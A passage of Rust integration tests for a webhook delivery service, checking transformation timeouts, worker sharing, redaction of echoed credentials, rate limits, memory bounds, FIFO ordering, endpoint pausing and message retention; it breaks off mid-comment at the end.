#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runaway_transformation_is_killed_at_its_deadline() {
    let server = Server::start("[delivery]\nretry_schedule = []").await;
    let rx = Receiver::start().await;
    let app = server.create_app("runaway").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
    let slow = "'a'.repeat(4e6).indexOf('a'.repeat(2e6) + 'b')";
    // At the top level, the check that runs when code is set is stopped the same way.
    let started = std::time::Instant::now();
    let (status, body) = server
        .call("PATCH", &path, Some(json!({ "code": format!("{slow}; function handler(w) {{ return w }}") })))
        .await;
    assert_eq!(status, 422, "{body}");
    assert!(body["detail"][0]["msg"].as_str().unwrap().contains("(stopped after 2 s)"), "{body}");
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
    let code = format!("function handler(w) {{ if (w.payload.slow) {{ w.payload.n = {slow}; }} return w }}");
    let (status, body) = server.call("PATCH", &path, Some(json!({ "code": code, "enabled": true }))).await;
    assert_eq!(status, 204, "{body}");
    let stuck = server.send_message(&app, "a.b", json!({ "slow": true })).await;
    // The API answers meanwhile.
    let (status, _) = server.call("GET", &format!("/api/v1/app/{app}"), None).await;
    assert_eq!(status, 200);
    let attempts = server
        .wait_until(&format!("/api/v1/app/{app}/attempt/msg/{stuck}"), WAIT, |b| {
            !b["data"].as_array().unwrap().is_empty()
        })
        .await;
    let response = attempts["data"][0]["response"].as_str().unwrap();
    assert!(response.contains("(stopped after 2 s)"), "killed, not interrupted: {response}");
    let fine = server.send_message(&app, "a.b", json!({ "slow": false })).await;
    let got = rx.wait_for(1, WAIT).await;
    assert_eq!(got[0].header("webhook-id"), fine);
    assert_eq!(got.len(), 1, "the stuck message was never sent");
}

/// Code that fails, fixed while deliveries queue for its worker: those it had not failed
/// when the fix was saved are run with the fix, not failed for good by the old code they
/// were read with (a job already queued carries its code).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deliveries_queued_for_a_transformation_run_its_fix() {
    let server = Server::start("[delivery]\nretry_schedule = []").await;
    let rx = Receiver::start().await;
    let app = server.create_app("fixed-code").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
    let old =
        "function handler(w) { let x = 0; for (let i = 0; i < 3e6; i++) { x += i } throw new Error('old code ' + x) }";
    let (status, body) = server.call("PATCH", &path, Some(json!({ "code": old, "enabled": true }))).await;
    assert_eq!(status, 204, "{body}");
    let mut sent = Vec::new();
    for n in 0..20 {
        sent.push(server.send_message(&app, "a.b", json!({ "n": n })).await);
    }
    // A few have failed by the old code; the rest wait for the application's worker.
    let list = format!("/api/v1/app/{app}/attempt/endpoint/{ep}");
    server.wait_until(&list, WAIT, |b| b["data"].as_array().is_some_and(|a| !a.is_empty())).await;
    let fix = "function handler(w) { return w }";
    let (status, body) = server.call("PATCH", &path, Some(json!({ "code": fix }))).await;
    assert_eq!(status, 204, "{body}");
    let fixed_at = chrono::Utc::now();
    let attempts = server
        .wait_until(&format!("{list}?limit=100"), Duration::from_secs(60), |b| {
            b["data"].as_array().is_some_and(|a| a.len() >= 20)
        })
        .await;
    let attempts = attempts["data"].as_array().cloned().unwrap_or_default();
    let failed: Vec<&Value> = attempts.iter().filter(|a| a["status"] == 2).collect();
    assert!(!failed.is_empty() && failed.len() < 20, "{attempts:?}");
    for a in &failed {
        assert!(a["response"].as_str().unwrap_or_default().contains("old code"), "{a}");
        let at: chrono::DateTime<chrono::Utc> = a["timestamp"].as_str().and_then(|t| t.parse().ok()).expect("time");
        // (The millisecond the attempt was stamped may round up past the clock read here.)
        assert!(at <= fixed_at + chrono::Duration::milliseconds(1), "failed by the old code after the fix: {a}");
    }
    let got = rx.wait_for(20 - failed.len(), WAIT).await;
    assert_eq!(got.len() + failed.len(), 20, "each message once: sent by the fix or failed before it");
}

/// Asks `ask` again while it answers 503 "no transformation worker was free in time", for
/// 30 s at most: another application's call waits API_WAIT (5 s) for the API's worker,
/// which a run kept from the CPU may hold longer (up to 6 s, and its worker's start), so on
/// a loaded machine the first call may find it still taken. Returns the first other answer.
async fn until_a_worker_was_free<F, A>(ask: impl Fn() -> F, status_body: impl Fn(&A) -> (u16, &Value)) -> A
where
    F: std::future::Future<Output = A>,
{
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let answer = ask().await;
        let (status, body) = status_body(&answer);
        let not_free = status == 503
            && body["detail"].as_str().is_some_and(|d| d.contains("no transformation worker was free in time"));
        if !not_free || Instant::now() > deadline {
            return answer;
        }
    }
}

/// Previews share one worker: an application runs one at a time (another while one runs is
/// 429 `busy`), so its token previewing slow code in a loop cannot keep the worker from
/// other applications' previews, which wait their turn and run.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_application_previews_one_at_a_time() {
    let server = Server::start("").await;
    let (greedy, other) = (server.create_app("greedy").await, server.create_app("other").await);
    let (ep, _) = server.create_endpoint(&greedy, json!({ "url": "https://example.com/hook" })).await;
    let (other_ep, _) = server.create_endpoint(&other, json!({ "url": "https://example.com/hook" })).await;
    let slow = "function handler(w) { w.n = 'a'.repeat(4e6).indexOf('a'.repeat(2e6) + 'b'); return w }";
    let fast = "function handler(w) { w.payload.seen = true; return w }";
    let preview = |app: &str, ep: &str, code: &str| {
        let (path, body) =
            (format!("/api/v1/app/{app}/endpoint/{ep}/preview"), json!({ "payload": {}, "transformation": code }));
        let request = server.client.post(server.url(&path)).bearer_auth(ADMIN).json(&body).send();
        async move { read(request.await.expect("preview")).await }
    };
    let done = std::sync::atomic::AtomicBool::new(false);
    // The slow one is sent until it runs (a fast one below may hold the place a moment).
    let slow_run = async {
        let mut answer = preview(&greedy, &ep, slow).await;
        while answer.0 == 429 {
            answer = preview(&greedy, &ep, slow).await;
        }
        done.store(true, std::sync::atomic::Ordering::SeqCst);
        answer
    };
    // A second preview of the same application while the first runs (it runs 2 s); then
    // another application's, which waits for the worker and runs.
    let probe = async {
        while !done.load(std::sync::atomic::Ordering::SeqCst) {
            tokio::time::sleep(Duration::from_millis(50)).await;
            let (status, body) = preview(&greedy, &ep, fast).await;
            if status == 429 {
                let other = until_a_worker_was_free(|| preview(&other, &other_ep, fast), |(s, b)| (*s, b)).await;
                return Some((body, other));
            }
        }
        None
    };
    let ((status, body), probed) = tokio::join!(slow_run, probe);
    let (busy, (other_status, other_body)) = probed.expect("no second preview was refused while the first ran");
    assert_eq!(busy["code"], "busy", "{busy}");
    assert_eq!((other_status, &other_body["body"]["seen"]), (200, &json!(true)), "{other_body}");
    assert_eq!(status, 422, "{body}");
    assert!(body["detail"][0]["msg"].as_str().unwrap_or_default().contains("stopped after 2 s"), "{body}");
    // Once it has answered, the application previews again.
    let (status, body) = preview(&greedy, &ep, fast).await;
    assert_eq!(status, 200, "{body}");
}

/// A receiver that echoes what it got (a debugging endpoint, an error page) does not put
/// the endpoint's credentials in the attempt log: its custom headers' values, its
/// transformation's variables and its URL's password read `[redacted]` there, as does a
/// transformation's error that shows a variable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_echoed_by_a_receiver_are_not_kept() {
    let server = Server::start("[delivery]\nretry_schedule = []").await;
    let echo = Receiver::scripted(|_, got| {
        let seen = ["x-api-key", "x-token", "authorization"].map(|h| format!("{h}={}", got.header(h))).join(" ");
        // Parts of them too: the token after its scheme, the password the Basic header holds.
        let token = got.header("x-api-key").rsplit(' ').next().unwrap_or_default().to_string();
        let basic = got.header("authorization").strip_prefix("Basic ").unwrap_or_default().to_string();
        let decoded = String::from_utf8(B64.decode(basic).unwrap_or_default()).unwrap_or_default();
        let password = decoded.split_once(':').map(|(_, p)| p.to_string()).unwrap_or_default();
        Reply::WithBody(500, format!("bad request; you sent {seen} token={token} password={password}"))
    })
    .await;
    let app = server.create_app("echo").await;
    // A password with characters the URL writes encoded (`@`, `;`): sent decoded.
    let url = echo.url.replacen("http://", "http://hooks:pa55%40word%3B1234@", 1);
    let (ep, _) =
        server.create_endpoint(&app, json!({ "url": url, "headers": { "x-api-key": "Token k-secret-123456" } })).await;
    let code = "function handler(w) { if (w.payload.fail) { throw new Error((w.payload.pad || '') + 'no ' + w.variables.token); } \
                w.headers['x-token'] = w.variables.token; return w }";
    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
    let body = json!({ "code": code, "enabled": true, "variables": { "token": "var-secret-value-1" } });
    let (status, out) = server.call("PATCH", &path, Some(body)).await;
    assert_eq!(status, 204, "{out}");
    let attempt_of = |msg: String| {
        let path = format!("/api/v1/app/{app}/attempt/msg/{msg}");
        let server = &server;
        async move {
            let page = server.wait_until(&path, WAIT, |b| !b["data"].as_array().unwrap().is_empty()).await;
            page["data"][0]["response"].as_str().unwrap_or_default().to_string()
        }
    };
    let echoed = attempt_of(server.send_message(&app, "a.b", json!({ "fail": false })).await).await;
    let got = echo.wait_for(1, WAIT).await;
    assert_eq!(got[0].header("x-token"), "var-secret-value-1", "sent as set");
    assert!(echoed.contains("x-api-key=[redacted]") && echoed.contains("x-token=[redacted]"), "{echoed}");
    assert!(echoed.contains("authorization=Basic [redacted]"), "{echoed}");
    assert!(echoed.contains("token=[redacted] password=[redacted]"), "{echoed}");
    let basic = B64.encode("hooks:pa55@word;1234");
    for secret in ["k-secret-123456", "var-secret-value-1", "pa55@word;1234", "pa55%40word%3B1234", basic.as_str()] {
        assert!(!echoed.contains(secret), "{secret} kept: {echoed}");
    }
    let failed = attempt_of(server.send_message(&app, "a.b", json!({ "fail": true })).await).await;
    assert!(failed.contains("no [redacted]") && !failed.contains("var-secret-value-1"), "{failed}");
    // An error cut at its 1,024 bytes in the middle of a variable ("Error: ", the pad, "no "
    // and 10 bytes of it): its start is not kept either.
    let pad = "x".repeat(1024 - 7 - 3 - 10);
    let cut = attempt_of(server.send_message(&app, "a.b", json!({ "fail": true, "pad": pad })).await).await;
    assert!(cut.ends_with("no [redacted]…") && !cut.contains("var-secret"), "{}", &cut[cut.len().saturating_sub(80)..]);
    // A key sent as the URL's user name, without a password, is the credential then.
    let keyed_app = server.create_app("echo-keyed").await;
    let url = echo.url.replacen("http://", "http://sk_live_key123456@", 1);
    server.create_endpoint(&keyed_app, json!({ "url": url })).await;
    let msg = server.send_message(&keyed_app, "a.b", json!({})).await;
    let page = server
        .wait_until(&format!("/api/v1/app/{keyed_app}/attempt/msg/{msg}"), WAIT, |b| {
            !b["data"].as_array().unwrap().is_empty()
        })
        .await;
    let echoed = page["data"][0]["response"].as_str().unwrap_or_default().to_string();
    assert!(echoed.contains("authorization=Basic [redacted]"), "{echoed}");
    let basic = B64.encode("sk_live_key123456:");
    for secret in ["sk_live_key123456", basic.as_str()] {
        assert!(!echoed.contains(secret), "{secret} kept: {echoed}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_limit_spreads_deliveries() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("rate").await;
    server.create_endpoint(&app, json!({ "url": rx.url, "rateLimit": 5 })).await;
    for i in 0..10 {
        server.send_message(&app, "a.b", json!({ "i": i })).await;
    }
    let got = rx.wait_for(10, WAIT).await;
    let span = got[9].at - got[0].at;
    // 5/s: a burst of 5, then one every 200 ms.
    assert!(span >= Duration::from_millis(750), "{span:?}");
}

/// A rate-limited endpoint with a backlog holds as much in memory as its rate allows (the
/// test's 30 s lease at 2/s: 15): claims ask it for no more than the room it has left, rather
/// than a whole share to hand straight back at every poll.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn claims_ask_an_endpoint_for_no_more_than_its_room() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("room").await;
    server.create_endpoint(&app, json!({ "url": rx.url, "rateLimit": 2 })).await;
    for i in 0..80 {
        server.send_message(&app, "a.b", json!({ "i": i })).await;
    }
    rx.wait_for(8, WAIT).await;
    let metrics = server.metrics().await;
    let returned = metric_value(&metrics, "hooklane_claimed_past_room_total").unwrap_or(0.0);
    assert!(returned < 10.0, "{returned} claimed deliveries handed straight back");
}

/// Deliveries held in memory hold at most `max_outstanding_bytes` of payload (200,000
/// here), and those of one endpoint a quarter of it: 40 KB payloads go one at a time to
/// an endpoint, and, posted to eight endpoints, five at most are on the wire together (the
/// rest wait in the store, and are claimed as those end); every one is delivered once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn payloads_held_in_memory_are_bounded_in_bytes() {
    let server = Server::start("[delivery]\nmax_outstanding_bytes = 200000").await;
    let rx = Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(400))).await;
    let big = "x".repeat(40_000);
    let on_the_wire = |got: &[Received], a: &Received| -> Vec<Received> {
        got.iter().filter(|b| b.at >= a.at && b.at < a.at + Duration::from_millis(300)).cloned().collect()
    };

    // One endpoint: its share, 50,000 bytes, holds one.
    let alone = server.create_app("alone").await;
    server.create_endpoint(&alone, json!({ "url": format!("{}/alone", rx.url) })).await;
    for i in 0..4 {
        server.send_message(&alone, "a.b", json!({ "i": i, "big": big })).await;
    }
    let got = rx.wait_for(4, WAIT).await;
    for a in &got {
        assert_eq!(on_the_wire(&got, a).len(), 1, "deliveries of 40 KB to one endpoint on the wire together");
    }

    let app = server.create_app("bytes").await;
    for e in 0..8 {
        server.create_endpoint(&app, json!({ "url": format!("{}/e{e}", rx.url) })).await;
    }
    let mut ids = Vec::new();
    for i in 0..3 {
        ids.push(server.send_message(&app, "a.b", json!({ "i": i, "big": big })).await);
    }
    let got: Vec<Received> = rx.wait_for(28, WAIT).await.into_iter().filter(|r| r.path != "/alone").collect();
    assert_eq!(got.len(), 24);
    let pairs: HashSet<(String, String)> =
        got.iter().map(|r| (r.path.clone(), r.header("webhook-id").to_string())).collect();
    assert_eq!(pairs.len(), 24, "each message once to each endpoint");
    assert!(pairs.iter().all(|(_, id)| ids.contains(id)), "{pairs:?}");
    for a in &got {
        let together = on_the_wire(&got, a);
        assert!(together.len() <= 5, "{} deliveries of 40 KB on the wire together", together.len());
        let same = together.iter().filter(|b| b.path == a.path).count();
        assert_eq!(same, 1, "{same} deliveries of 40 KB to {} on the wire together", a.path);
    }
    let metrics = server.metrics().await;
    let past = metric_value(&metrics, "hooklane_claimed_past_payload_bytes_total").unwrap_or(0.0);
    // Those past the node's room at the first message's fan-out, and few more: an endpoint
    // with no room for another payload is not claimed from (11 were handed back when it was).
    assert!((1.0..=8.0).contains(&past), "{past} deliveries handed back for want of room for their payloads");
}

/// A transformation's body is held as its payload is: a template copying a 1 KB payload
/// forty times makes 40 KB bodies, and one endpoint's share (50,000 bytes here) holds one of
/// them, not as many as their payloads alone would let wait (every one was on the wire at
/// once, each holding its body uncounted). Every message is still delivered once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn transformed_bodies_held_in_memory_count_against_the_bound() {
    let server = Server::start("[delivery]\nmax_outstanding_bytes = 200000").await;
    let rx = Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(400))).await;
    let app = server.create_app("grown").await;
    let template: Vec<Value> = (0..40).map(|_| json!("{{ $ }}")).collect();
    server.create_endpoint(&app, json!({ "url": rx.url, "transform": template })).await;
    let mut ids = Vec::new();
    for i in 0..4 {
        ids.push(server.send_message(&app, "a.b", json!({ "i": i, "pad": "x".repeat(1_000) })).await);
    }
    let got = rx.wait_for(4, WAIT).await;
    assert!(got.iter().all(|r| r.body.len() > 40_000), "the bodies were not transformed");
    let sent: HashSet<&str> = got.iter().map(|r| r.header("webhook-id")).collect();
    assert_eq!(sent, ids.iter().map(String::as_str).collect(), "each message once");
    for a in &got {
        let together = got.iter().filter(|b| b.at >= a.at && b.at < a.at + Duration::from_millis(300)).count();
        assert_eq!(together, 1, "transformed bodies of 40 KB to one endpoint on the wire together");
    }
}

/// A rate-limited endpoint's deliveries that took their slots while every request place of
/// the node was held by another endpoint (hanging for 3 s here) do not all go out together
/// when places free up: slots whose time passed are taken afresh, and the rate holds.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_busy_node_does_not_turn_a_rate_into_a_burst() {
    let server = Server::start("[delivery]\nmax_in_flight = 2").await;
    let slow = Receiver::scripted(|_, _| Reply::Hang(Duration::from_secs(3))).await;
    let limited = Receiver::start().await;
    let app = server.create_app("burst").await;
    server.create_endpoint(&app, json!({ "url": slow.url, "filterTypes": ["slow"] })).await;
    server.create_endpoint(&app, json!({ "url": limited.url, "filterTypes": ["limited"], "rateLimit": 2 })).await;
    for i in 0..2 {
        server.send_message(&app, "slow", json!({ "i": i })).await;
    }
    slow.wait_for(2, WAIT).await;
    for i in 0..8 {
        server.send_message(&app, "limited", json!({ "i": i })).await;
    }
    let got = limited.wait_for(8, WAIT).await;
    // 2/s: a burst of 2, then one every 500 ms; never 3 within 400 ms.
    let most = got
        .iter()
        .map(|first| got.iter().filter(|r| r.at >= first.at && r.at - first.at < Duration::from_millis(400)).count())
        .max();
    let times: Vec<_> = got.iter().map(|r| r.at - got[0].at).collect();
    assert!(most <= Some(2), "{most:?} deliveries within 400 ms: {times:?}");
}

/// The slow endpoint's requests hang until the test lets them go (hooklane's timeout, past
/// WAIT, does not end them first): the other endpoint's deliveries all arrive meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slow_endpoint_does_not_hold_up_the_others() {
    let server =
        Server::start("[delivery]\nper_endpoint_in_flight = 4\nrequest_timeout = \"30s\"\nlease = \"60s\"").await;
    let hang = Gate::new();
    let slow = Receiver::scripted({
        let hang = hang.clone();
        move |_, _| Reply::Held(hang.clone(), 200)
    })
    .await;
    let fast = Receiver::start().await;
    let app = server.create_app("isolation").await;
    server.create_endpoint(&app, json!({ "url": slow.url, "filterTypes": ["slow"] })).await;
    server.create_endpoint(&app, json!({ "url": fast.url, "filterTypes": ["fast"] })).await;
    for i in 0..40 {
        server.send_message(&app, "slow", json!({ "i": i })).await;
    }
    // (Its places all taken by requests that hang.)
    slow.wait_for(4, WAIT).await;
    for i in 0..40 {
        server.send_message(&app, "fast", json!({ "i": i })).await;
    }
    fast.wait_for(40, WAIT).await;
    assert!(slow.received().len() <= 4, "per-endpoint concurrency was not applied");
    hang.open();
}

/// A slow endpoint with a long queue: a delivery that waited its turn past the point where
/// its request could still end within its lease is not sent by the node that holds it (its
/// lease's end makes it due again, and the node claims it once more), so no live node sends
/// a message twice, and every message still arrives.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_delivery_queued_past_its_lease_is_not_sent_twice() {
    let server = Server::start(
        // (A request timeout well above the receiver's half second, so that no slow answer
        // under load is retried; the lease leaves each a 2 s budget to start in.)
        "[delivery]\nper_endpoint_in_flight = 1\nlease = \"6s\"\nrequest_timeout = \"2s\"\nconnect_timeout = \"1s\"\npoll_interval = \"200ms\"",
    )
    .await;
    let slow = Receiver::scripted(|_, _| Reply::Hang(Duration::from_millis(500))).await;
    let app = server.create_app("queued").await;
    server.create_endpoint(&app, json!({ "url": slow.url })).await;
    for i in 0..10 {
        server.send_message(&app, "slow", json!({ "i": i })).await;
    }
    // One at a time, half a second each: the last ones wait longer than their budget.
    slow.wait_for(10, Duration::from_secs(60)).await;
    // Long enough for a second sending of any of them (a lease, and a poll) to show.
    tokio::time::sleep(Duration::from_secs(7)).await;
    let got: Vec<String> = slow.received().iter().map(|r| r.header("webhook-id").to_string()).collect();
    let mut distinct = got.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), 10, "every message arrives: {got:?}");
    assert_eq!(got.len(), 10, "none twice: {got:?}");
    let metrics = server
        .client
        .get(server.url("/metrics"))
        .bearer_auth(ADMIN)
        .send()
        .await
        .expect("metrics")
        .text()
        .await
        .expect("text");
    assert!(metrics.contains("hooklane_deliveries_lease_expired_total"), "some waited past their lease");
}

/// Messages older than `message_retention` whose deliveries are finished are deleted with
/// their attempts; a message whose delivery is still pending is kept.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn old_messages_are_deleted_after_their_retention() {
    let server = Server::start(
        "housekeeping_interval = \"100ms\"\nmessage_retention = \"1s\"\n[delivery]\nretry_schedule = [\"1h\"]\n",
    )
    .await;
    let ok = Receiver::start().await;
    let failing = Receiver::scripted(|_, _| Reply::Status(500)).await;
    let app = server.create_app("retained").await;
    server.create_endpoint(&app, json!({ "url": format!("{}/ok", ok.url), "filterTypes": ["done"] })).await;
    server.create_endpoint(&app, json!({ "url": format!("{}/fail", failing.url), "filterTypes": ["waits"] })).await;
    let done = server.send_message(&app, "done", json!({ "n": 1 })).await;
    let waits = server.send_message(&app, "waits", json!({ "n": 2 })).await;
    ok.wait_for_ids(std::slice::from_ref(&done), Duration::from_secs(20)).await;
    failing.wait_for(1, Duration::from_secs(20)).await;

    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let (status, _) = server.call("GET", &format!("/api/v1/app/{app}/msg/{done}"), None).await;
        if status == 404 {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the delivered message was never deleted:\n{}", server.logs());
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (status, attempts) = server.call("GET", &format!("/api/v1/app/{app}/attempt/msg/{done}"), None).await;
    assert!(status == 404 || attempts["data"] == json!([]), "its attempts went with it: {status} {attempts}");
    // The other waits for its retry in an hour: kept, with its failed attempt.
    let (status, kept) = server.call("GET", &format!("/api/v1/app/{app}/msg/{waits}"), None).await;
    assert_eq!(status, 200, "{kept}");
    let (_, attempts) = server.call("GET", &format!("/api/v1/app/{app}/attempt/msg/{waits}"), None).await;
    assert_eq!(attempts["data"].as_array().map(Vec::len), Some(1), "{attempts}");
}

/// Collapses repeats in a row (the retries of one message).
fn distinct_in_a_row(order: &[i64]) -> Vec<i64> {
    let mut out: Vec<i64> = order.to_vec();
    out.dedup();
    out
}

/// hooklane's `ordering: "fifo"`: an endpoint gets its messages one at a time, in the order
/// they were posted, and a failing one holds back those behind it until it succeeds. A
/// concurrent endpoint beside it, with the same receiver behaviour, shows what the checks
/// catch: requests overlapping, and later messages passing a failing one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifo_endpoint_gets_one_message_at_a_time_in_order() {
    const COUNT: usize = 12;
    let server = Server::start("").await;
    let (lane, side) = (lane_receiver().await, lane_receiver().await);
    let app = server.create_app("fifo").await;
    let (status, out) = server
        .call("POST", &format!("/api/v1/app/{app}/endpoint"), Some(json!({ "url": lane.url, "ordering": "fifo" })))
        .await;
    assert_eq!(status, 201, "{out}");
    assert_eq!(out["ordering"], "fifo");
    let fifo = out["id"].as_str().unwrap().to_string();
    let (_, out) = server.call("POST", &format!("/api/v1/app/{app}/endpoint"), Some(json!({ "url": side.url }))).await;
    assert!(out.get("ordering").is_none(), "a concurrent endpoint's answer stays Svix's: {out}");

    post_in_turn(&[&server], &app, COUNT).await;
    let got = lane.wait_for(COUNT + 2, WAIT).await;
    side.wait_for(COUNT + 2, WAIT).await;
    settle().await;
    let (order, overlaps) = lane_log(&got);
    assert_eq!(order.len(), COUNT + 2, "two retries, no duplicate: {order:?}");
    assert_eq!(distinct_in_a_row(&order), (0..COUNT as i64).collect::<Vec<_>>(), "in order: {order:?}");
    assert_eq!(order.iter().filter(|n| **n == 2).count(), 3, "{order:?}");
    assert_eq!(overlaps, 0, "a request came before the previous one was answered: {order:?}");

    let (side_order, side_overlaps) = lane_log(&side.received());
    assert_eq!(side_order.len(), COUNT + 2, "two retries, no duplicate: {side_order:?}");
    assert_ne!(distinct_in_a_row(&side_order), (0..COUNT as i64).collect::<Vec<_>>(), "{side_order:?}");
    assert!(side_overlaps > 0, "the concurrent endpoint was sent one at a time: {side_order:?}");

    // The setting through the API: kept by a PUT that does not name it (as Svix's SDKs
    // send them), changed by PATCH, null back to the default, refused when unknown.
    let path = format!("/api/v1/app/{app}/endpoint/{fifo}");
    let (status, out) = server.call("PUT", &path, Some(json!({ "url": lane.url }))).await;
    assert_eq!((status, &out["ordering"]), (200, &json!("fifo")), "{out}");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "ordering": "concurrent" }))).await;
    assert_eq!(status, 200, "{out}");
    assert!(out.get("ordering").is_none(), "{out}");
    let (_, out) = server.call("PATCH", &path, Some(json!({ "ordering": "fifo" }))).await;
    assert_eq!(out["ordering"], "fifo");
    let (_, out) = server.call("PATCH", &path, Some(json!({ "ordering": null }))).await;
    assert!(out.get("ordering").is_none(), "null is the default: {out}");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "ordering": "random" }))).await;
    assert_eq!(status, 422, "{out}");
}

/// hooklane's `orderingKey` on a message: at a FIFO endpoint each key is a lane of its own,
/// so messages keep their order within a key while a failing one holds back only its key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifo_endpoint_keeps_order_per_ordering_key() {
    const COUNT: i64 = 10;
    let server = Server::start("").await;
    let lane = lane_receiver().await;
    let app = server.create_app("fifo-keys").await;
    server.create_endpoint(&app, json!({ "url": lane.url, "ordering": "fifo" })).await;
    for n in 0..COUNT {
        let key = if n % 2 == 0 { "even" } else { "odd" };
        let body = json!({ "eventType": "order.updated", "payload": { "n": n }, "orderingKey": key });
        let (status, out) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(body)).await;
        assert_eq!((status, out["orderingKey"].as_str()), (202, Some(key)), "{out}");
    }
    lane.wait_for(COUNT as usize + 2, WAIT).await;
    settle().await;
    let (order, _) = lane_log(&lane.received());
    assert_eq!(order.len(), COUNT as usize + 2, "{order:?}");
    for parity in [0, 1] {
        let within: Vec<i64> =
            distinct_in_a_row(&order.iter().copied().filter(|n| n % 2 == parity).collect::<Vec<_>>());
        let expected: Vec<i64> = (0..COUNT).filter(|n| n % 2 == parity).collect();
        assert_eq!(within, expected, "order within a key: {order:?}");
    }
    // The failing message (2, key "even") held back 4, 6 and 8, not the odd ones.
    let last_of_two = order.iter().rposition(|n| *n == 2).unwrap();
    assert!(order[..last_of_two].contains(&(COUNT - 1)), "the other key waited for the failing one: {order:?}");

    let (status, out) = server
        .call(
            "POST",
            &format!("/api/v1/app/{app}/msg"),
            Some(json!({ "eventType": "a", "payload": {}, "orderingKey": "" })),
        )
        .await;
    assert_eq!((status, out["code"].as_str()), (422, Some("validation")), "{out}");
}

/// hooklane's `paused`: an endpoint's deliveries are made and held, never tried, until it is
/// resumed; then they go at once (a FIFO endpoint's in order) and nothing was dropped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_paused_endpoint_holds_its_deliveries_until_resumed() {
    const COUNT: usize = 6;
    let server = Server::start("").await;
    let (held, other) = (Receiver::start().await, Receiver::start().await);
    let app = server.create_app("paused").await;
    let spec = json!({ "url": held.url, "ordering": "fifo", "paused": true });
    let (status, out) = server.call("POST", &format!("/api/v1/app/{app}/endpoint"), Some(spec)).await;
    assert_eq!((status, &out["paused"]), (201, &json!(true)), "{out}");
    let ep = out["id"].as_str().unwrap().to_string();
    let (_, out) = server.call("POST", &format!("/api/v1/app/{app}/endpoint"), Some(json!({ "url": other.url }))).await;
    assert!(out.get("paused").is_none(), "answers stay Svix's while not paused: {out}");

    post_in_turn(&[&server], &app, COUNT).await;
    other.wait_for(COUNT, WAIT).await;
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert!(held.received().is_empty(), "a paused endpoint got {} requests", held.received().len());
    let (_, listed) = server.call("GET", &format!("/api/v1/app/{app}/endpoint/{ep}/msg"), None).await;
    let statuses: Vec<&Value> = listed["data"].as_array().unwrap().iter().map(|m| &m["status"]).collect();
    assert_eq!(statuses, vec![&json!(1); COUNT], "all pending: {listed}");
    let (_, attempts) = server.call("GET", &format!("/api/v1/app/{app}/attempt/endpoint/{ep}"), None).await;
    assert_eq!(attempts["data"], json!([]), "nothing tried: {attempts}");

    // Kept by a PUT that does not name it (as Svix's SDKs send them); null is refused.
    let path = format!("/api/v1/app/{app}/endpoint/{ep}");
    let (status, out) = server.call("PUT", &path, Some(json!({ "url": held.url }))).await;
    assert_eq!((status, &out["paused"]), (200, &json!(true)), "{out}");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "paused": null }))).await;
    assert_eq!(status, 422, "{out}");

    // Resumed: everything held arrives at once (not an hour later), in order.
    let (status, out) = server.call("PATCH", &path, Some(json!({ "paused": false }))).await;
    assert_eq!(status, 200, "{out}");
    assert!(out.get("paused").is_none(), "{out}");
    let got = held.wait_for(COUNT, Duration::from_secs(10)).await;
    let (order, _) = lane_log(&got);
    assert_eq!(order, (0..COUNT as i64).collect::<Vec<_>>(), "in order, each once");

    // An inbound destination too (Hookdeck's paused connection).
    let dest = Receiver::start().await;
    let spec =
        json!({"name": "held", "verification": {"type": "none"}, "destinations": [{"url": dest.url, "paused": true}]});
    let (status, src) = server.call("POST", "/api/v1/source", Some(spec)).await;
    assert_eq!((status, &src["destinations"][0]["paused"]), (201, &json!(true)), "{src}");
    let ingest = src["ingestUrl"].as_str().unwrap().to_string();
    let posted = reqwest::Client::new().post(&ingest).json(&json!({"n": 0})).send().await.unwrap();
    assert_eq!(posted.status(), 200);
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert!(dest.received().is_empty(), "a paused destination was sent to");
    let id = src["destinations"][0]["id"].clone();
    let patch = json!({"destinations": [{"id": id, "url": dest.url, "paused": false}]});
    let (status, src) =
        server.call("PATCH", &format!("/api/v1/source/{}", src["id"].as_str().unwrap()), Some(patch)).await;
    assert_eq!(status, 200, "{src}");
    assert!(src["destinations"][0].get("paused").is_none(), "{src}");
    assert_eq!(dest.wait_for(1, Duration::from_secs(10)).await[0].json(), json!({"n": 0}));
}

/// Posts `count` messages `{"i": n}` of `event_type` to `app` and waits until the first
